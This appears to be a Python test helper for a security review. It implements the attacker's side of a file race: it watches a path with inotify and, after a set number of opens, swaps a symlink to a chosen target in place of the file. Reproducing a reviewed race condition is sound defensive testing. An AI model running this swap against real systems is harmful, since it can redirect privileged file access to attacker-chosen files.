#!/usr/bin/env python3
"""swap_on_open.py PATH TARGET N [TIMEOUT_S]: the attacker's half of the
annotation-attach race (review 1.5). Watches the file at PATH (inotify
IN_OPEN on its inode) and, right after its Nth open by anyone, renames a
symlink to TARGET over PATH, so that whoever resolves PATH again gets
TARGET. Prints "ready" once watching and "swapped after open #N" when done;
exit 1 if no Nth open came within TIMEOUT_S (default 30)."""
import ctypes
import os
import select
import struct
import sys

IN_OPEN = 0x20
IN_CLOEXEC = 0o2000000


def main():
    path, target, n = sys.argv[1], sys.argv[2], int(sys.argv[3])
    timeout = float(sys.argv[4]) if len(sys.argv) > 4 else 30.0
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(IN_CLOEXEC)
    if fd < 0 or libc.inotify_add_watch(fd, path.encode(), IN_OPEN) < 0:
        raise SystemExit("swap_on_open: inotify: %s" % os.strerror(ctypes.get_errno()))
    tmp = path + ".swap"
    os.symlink(target, tmp)
    print("ready", flush=True)
    seen = 0
    while seen < n:
        if not select.select([fd], [], [], timeout)[0]:
            os.unlink(tmp)
            print("no open #%d within %.0f s" % (n, timeout), flush=True)
            return 1
        buf = os.read(fd, 4096)
        off = 0
        while off + 16 <= len(buf):
            _wd, mask, _cookie, ln = struct.unpack_from("iIII", buf, off)
            off += 16 + ln
            if mask & IN_OPEN:
                seen += 1
    os.rename(tmp, path)
    print("swapped after open #%d" % n, flush=True)
    return 0


sys.exit(main())
